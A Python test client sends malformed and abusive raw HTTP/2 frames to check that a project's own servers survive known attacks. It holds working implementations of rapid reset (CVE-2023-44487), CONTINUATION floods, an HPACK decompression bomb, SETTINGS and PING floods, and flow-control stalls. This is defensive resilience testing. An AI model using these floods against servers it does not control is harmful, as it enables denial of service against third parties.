"""An abusive HTTP/2 client (raw frames from hyperframe and hpack, no h2 state machine in the way),
used to check that MeshLab's HTTP/2 servers survive what CVE write-ups describe: HBONE on 15008
(mutual TLS) and h2c at an L7 proxy.

usage: h2_abuse.py ATTACK HOST:PORT AUTHORITY [--tls CERT KEY ROOT] [--count N] [--pause SECONDS]

With --tls, requests are HBONE CONNECTs to AUTHORITY; without, h2c GETs with that :authority.
ATTACK is one of: normal, http1, garbage, big-headers, hpack-bomb, continuation-flood, rapid-reset,
settings-flood, ping-flood, excess-streams, zero-window.
Prints one JSON line: what the server did (its GOAWAY's code and last stream id, RST_STREAM codes
it sent, response statuses, whether it closed the connection), and for `normal` the echo's reply.
zero-window prints a line `stalled` first, when its streams are open and it stops reading.
Every loop is bounded in count and time.
"""
import json
import select
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

import mesh_tls

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
          "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
          "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]


def error_name(code):
    return ERRORS[code] if code < len(ERRORS) else str(code)


def hpack_integer(value, prefix_bits, first_byte=0):
    """RFC 7541 5.1: an integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value, indexed=False):
    """A literal header field with a new name, not Huffman coded (RFC 7541 6.2.1 / 6.2.2)."""
    first = hpack_integer(0, 6, 0x40) if indexed else hpack_integer(0, 4, 0x00)
    return first + hpack_integer(len(name), 7) + name + hpack_integer(len(value), 7) + value


class Connection:
    def __init__(self, address, tls, ack_settings=True, receive_buffer=None):
        host, port = address.rsplit(":", 1)
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(10)
        sock.connect((host, int(port)))
        if tls:
            cert, key, root = tls
            sock = mesh_tls.client_context(root, cert, key).wrap_socket(sock)
        self.sock = sock
        self.ack_settings = ack_settings
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.buffer = b""
        self.raw = b""  # the first bytes read, for answers that are not HTTP/2
        self.closed = False
        self.reset_by_peer = False
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.responses = {}  # stream -> status
        self.bodies = {}
        self.ended = set()
        self.server_settings = {}
        self.settings_acks = 0
        self.ping_acks = 0
        self.header_block = None

    def send(self, data):
        """False once the server is gone (it may close while we still write)."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.closed = True
            self.reset_by_peer = True
            return False

    def frame(self, frame):
        return self.send(frame.serialize())

    def headers(self, stream, fields, end_stream=False):
        frame = HeadersFrame(stream, self.encoder.encode(fields), flags=["END_HEADERS"] + (["END_STREAM"] if end_stream else []))
        return frame.serialize()

    def read(self, timeout):
        """Reads what has arrived within `timeout` seconds; False once the connection is closed."""
        if self.closed:
            return False
        deadline = time.monotonic() + timeout
        while True:
            pending = self.sock.pending() if isinstance(self.sock, ssl.SSLSocket) else 0
            left = deadline - time.monotonic()
            if not pending and not select.select([self.sock], [], [], max(left, 0))[0]:
                return True
            try:
                data = self.sock.recv(1 << 20)
            except ssl.SSLWantReadError:
                if left <= 0:
                    return True
                continue
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.closed, self.reset_by_peer = True, True
                return False
            if not data:
                self.closed = True
                return False
            if len(self.raw) < 256:
                self.raw += data[:256 - len(self.raw)]
            self.buffer += data
            self.parse()
            if time.monotonic() >= deadline:
                return True

    def read_until(self, done, timeout):
        deadline = time.monotonic() + timeout
        while not done() and time.monotonic() < deadline:
            if not self.read(min(0.2, max(deadline - time.monotonic(), 0))):
                break

    def parse(self):
        if self.raw.startswith(b"HTTP/"):
            return  # an HTTP/1.1 answer, kept in `raw`
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            frame, _ = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self.handle(frame)

    def handle(self, frame):
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acks += 1
            else:
                self.server_settings.update(frame.settings)
                if self.ack_settings:
                    self.frame(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                self.ping_acks += 1
            else:
                self.frame(PingFrame(0, frame.opaque_data, flags=["ACK"]))
        elif isinstance(frame, GoAwayFrame):
            self.goaway = {"code": error_name(frame.error_code), "last_stream": frame.last_stream_id,
                           "debug": frame.additional_data.decode(errors="replace")}
        elif isinstance(frame, RstStreamFrame):
            name = error_name(frame.error_code)
            self.resets[name] = self.resets.get(name, 0) + 1
            self.ended.add(frame.stream_id)
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.header_block = (self.header_block or b"") + frame.data
            if "END_HEADERS" in frame.flags:
                fields = dict(self.decoder.decode(self.header_block))
                self.header_block = None
                status = fields.get(":status")
                if status and frame.stream_id not in self.responses:
                    self.responses[frame.stream_id] = status
                    self.statuses[status] = self.statuses.get(status, 0) + 1
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, DataFrame):
            self.bodies[frame.stream_id] = self.bodies.get(frame.stream_id, b"") + frame.data
            if frame.flow_controlled_length:
                self.frame(WindowUpdateFrame(0, frame.flow_controlled_length))
                self.frame(WindowUpdateFrame(frame.stream_id, frame.flow_controlled_length))
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def outcome(self):
        """What the server did, as the test reads it."""
        if self.raw.startswith(b"HTTP/"):
            answer = self.raw.split(b"\r\n", 1)[0].decode(errors="replace")
        else:
            answer = None
        return {"goaway": self.goaway, "resets": self.resets, "statuses": self.statuses, "closed": self.closed,
                "reset_by_peer": self.reset_by_peer, "http1_answer": answer,
                "server_max_concurrent_streams": self.server_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)}


def request(connection, stream, tls, authority, path="/", end_stream=None):
    if tls:
        fields = [(":method", "CONNECT"), (":authority", authority)]
        return connection.headers(stream, fields, end_stream=bool(end_stream))
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
    return connection.headers(stream, fields, end_stream=True if end_stream is None else end_stream)


def open_connection(address, tls, settings=None, ack_settings=True, receive_buffer=None):
    connection = Connection(address, tls, ack_settings=ack_settings, receive_buffer=receive_buffer)
    connection.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    return connection


def normal(address, authority, tls, _options):
    """One ordinary exchange: h2c GET /, or an HBONE CONNECT carrying an HTTP/1.1 GET."""
    connection = open_connection(address, tls)
    connection.send(request(connection, 1, tls, authority))
    connection.read_until(lambda: 1 in connection.responses or connection.closed, 10)
    status = connection.responses.get(1)
    if tls and status == "200":
        get = f"GET / HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n".encode()
        connection.frame(DataFrame(1, get))
        connection.read_until(lambda: 1 in connection.ended or connection.closed, 10)
        head, _, body = connection.bodies.get(1, b"").partition(b"\r\n\r\n")
        status = head.split(b" ")[1].decode() if head.startswith(b"HTTP/1.1 ") else f"tunnel answered {head[:40]!r}"
    else:
        connection.read_until(lambda: 1 in connection.ended or connection.closed, 10)
        body = connection.bodies.get(1, b"")
    connection.close()
    try:
        reply = json.loads(body)
    except ValueError:
        reply = None
    return {"status": int(status) if status and status.isdigit() else status, "reply": reply}


def http1(address, authority, tls, _options):
    """HTTP/1.1 where HTTP/2 is spoken (after ALPN h2, on HBONE)."""
    connection = Connection(address, tls)
    connection.send(f"GET / HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    connection.read_until(lambda: connection.closed or b"\r\n\r\n" in connection.raw, 5)
    connection.close()
    return connection.outcome()


def garbage(address, authority, tls, _options):
    """The preface, then bytes that are no frame: their first 9 announce a 16 MiB frame."""
    connection = Connection(address, tls)
    connection.send(PREFACE + b"\xff" * 4096)
    connection.read_until(lambda: connection.closed, 5)
    connection.close()
    return connection.outcome()


def big_headers(address, authority, tls, _options):
    """A 128 KiB header value in frames of the server's SETTINGS_MAX_FRAME_SIZE: one on HBONE (1 MiB
    frames), 9 on h2c (16 KiB), where the size limit is met before the CONTINUATION count's."""
    connection = open_connection(address, tls)
    connection.read_until(lambda: connection.server_settings, 5)
    frame_size = connection.server_settings.get(SettingsFrame.MAX_FRAME_SIZE, 16384)
    block = connection.encoder.encode([(":method", "CONNECT" if tls else "GET"), (":authority", authority)]
                                      + ([] if tls else [(":scheme", "http"), (":path", "/")]))
    block += literal(b"x-big", b"v" * (128 << 10))
    chunks = [block[i:i + frame_size] for i in range(0, len(block), frame_size)]
    frames = [HeadersFrame(1, chunks[0])] + [ContinuationFrame(1, chunk) for chunk in chunks[1:]]
    frames[-1].flags.add("END_HEADERS")
    if not tls:
        frames[0].flags.add("END_STREAM")
    for frame in frames:  # one at a time: a server closing on unread bytes resets, and its GOAWAY is lost
        if connection.closed or connection.goaway or not connection.send(frame.serialize()):
            break
        connection.read(0.01)
    connection.read_until(lambda: connection.closed or connection.goaway or connection.resets or connection.responses, 5)
    connection.close()
    return {**connection.outcome(), "header_bytes": len(block), "frames": len(frames)}


def hpack_bomb(address, authority, tls, _options):
    """A 4 KB header put in the dynamic table once, then named by its 1-byte index 2000 times:
    a 6 KB header block that decodes to 8 MB. Sent once the server's SETTINGS is ACKed, so that its
    own SETTINGS_MAX_HEADER_LIST_SIZE is in force (before, NIO holds to its default)."""
    connection = open_connection(address, tls)
    connection.read_until(lambda: connection.server_settings, 5)
    block = connection.encoder.encode([(":method", "CONNECT" if tls else "GET"), (":authority", authority)]
                                      + ([] if tls else [(":scheme", "http"), (":path", "/")]))
    block += literal(b"x-bomb", b"b" * 4000, indexed=True) + bytes([0x80 | 62]) * 2000
    frame = HeadersFrame(1, block, flags=["END_HEADERS"] + ([] if tls else ["END_STREAM"]))
    connection.send(frame.serialize())
    connection.read_until(lambda: connection.closed or connection.goaway or connection.resets or connection.responses, 5)
    connection.close()
    return {**connection.outcome(), "wire_bytes": len(block), "decoded_bytes": 2001 * (4000 + 6)}


def continuation_flood(address, authority, tls, options):
    """HEADERS without END_HEADERS, then up to N CONTINUATION frames of 16 bytes, never ending."""
    connection = open_connection(address, tls)
    block = connection.encoder.encode([(":method", "CONNECT" if tls else "GET"), (":authority", authority)]
                                      + ([] if tls else [(":scheme", "http"), (":path", "/")]))
    block += hpack_integer(0, 4) + hpack_integer(7, 7) + b"x-flood" + hpack_integer(1 << 30, 7)
    connection.send(HeadersFrame(1, block).serialize())
    sent = 0
    chunk = ContinuationFrame(1, b"a" * 16).serialize()
    while sent < options["count"] and not connection.closed and not connection.goaway:
        if not connection.send(chunk * 100):
            break
        sent += 100
        connection.read(0.01)
    connection.read_until(lambda: connection.closed, 5)
    connection.close()
    return {**connection.outcome(), "continuations_sent": sent}


def rapid_reset(address, authority, tls, options):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) on each new stream, 50 pairs a write, up to N."""
    connection = open_connection(address, tls)
    stream, pairs, started = 1, 0, time.monotonic()
    while pairs < options["count"] and not connection.closed and not connection.goaway and time.monotonic() - started < 20:
        batch = b""
        for _ in range(50):
            batch += request(connection, stream, tls, authority) + RstStreamFrame(stream, 8).serialize()
            stream += 2
        if not connection.send(batch):
            break
        pairs += 50
        connection.read(0.01)  # paced, so the server is not closing on unread bytes (a RST that loses its GOAWAY)
    connection.read_until(lambda: connection.closed, 5)
    connection.close()
    return {**connection.outcome(), "pairs_sent": pairs, "seconds": round(time.monotonic() - started, 2)}


def flood(make_frame):
    def attack(address, authority, tls, options):
        connection = open_connection(address, tls)
        sent, started = 0, time.monotonic()
        while sent < options["count"] and not connection.closed and not connection.goaway and time.monotonic() - started < 20:
            if not connection.send(b"".join(make_frame(sent + n).serialize() for n in range(100))):
                break
            sent += 100
            connection.read(0.01)
        connection.read_until(lambda: connection.closed, 5)
        connection.close()
        return {**connection.outcome(), "frames_sent": sent, "settings_acks": connection.settings_acks,
                "ping_acks": connection.ping_acks}
    return attack


def excess_streams(address, authority, tls, options):
    """N streams in the first write, before the server's SETTINGS is even read (so never ACKed),
    more than the 100 it will advertise."""
    connection = open_connection(address, tls, ack_settings=False)
    streams = [1 + 2 * n for n in range(options["count"])]
    connection.send(b"".join(request(connection, stream, tls, authority) for stream in streams))
    connection.read_until(lambda: connection.closed or len(connection.responses) + sum(connection.resets.values()) >= len(streams), 8)
    connection.close()
    return {**connection.outcome(), "streams_sent": len(streams)}


def zero_window(address, authority, tls, options):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, N streams each asking for 64 MiB, and no reading for PAUSE s:
    whatever the server has for us must stay where flow control holds it."""
    size = 64 << 20
    connection = open_connection(address, tls, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, receive_buffer=65536)
    streams = [1 + 2 * n for n in range(options["count"])]
    for stream in streams:
        connection.send(request(connection, stream, tls, authority, path=f"/bytes/{size}"))
    if tls:
        connection.read_until(lambda: len(connection.responses) >= len(streams) or connection.closed, 10)
        for stream in streams:
            if connection.responses.get(stream) == "200":
                connection.frame(DataFrame(stream, f"GET /bytes/{size} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode()))
    else:
        connection.read_until(lambda: len(connection.responses) >= len(streams) or connection.closed, 10)
    print("stalled", flush=True)
    time.sleep(options["pause"])  # read nothing: window 0, and the socket's buffer fills up
    answered = len(connection.responses)
    received = sum(len(body) for body in connection.bodies.values())
    connection.close()
    return {**connection.outcome(), "streams": len(streams), "answered": answered, "body_bytes_before_stall": received}


DEFAULT_COUNTS = {"excess-streams": 150, "zero-window": 20}

ATTACKS = {
    "normal": normal, "http1": http1, "garbage": garbage, "big-headers": big_headers, "hpack-bomb": hpack_bomb,
    "continuation-flood": continuation_flood, "rapid-reset": rapid_reset,
    "settings-flood": flood(lambda n: SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096})),
    "ping-flood": flood(lambda n: PingFrame(0, n.to_bytes(8, "big"))),
    "excess-streams": excess_streams, "zero-window": zero_window,
}


def main():
    attack, address, authority = sys.argv[1:4]
    rest = sys.argv[4:]
    tls, options = None, {"count": DEFAULT_COUNTS.get(attack, 5000), "pause": 4.0}
    while rest:
        option = rest.pop(0)
        if option == "--tls":
            tls = (rest.pop(0), rest.pop(0), rest.pop(0))
        elif option == "--count":
            options["count"] = int(rest.pop(0))
        elif option == "--pause":
            options["pause"] = float(rest.pop(0))
        else:
            sys.exit(f"unknown option {option}")
    started = time.monotonic()
    result = ATTACKS[attack](address, authority, tls, options)
    print(json.dumps({"attack": attack, **result, "elapsed": round(time.monotonic() - started, 2)}), flush=True)


if __name__ == "__main__":
    main()
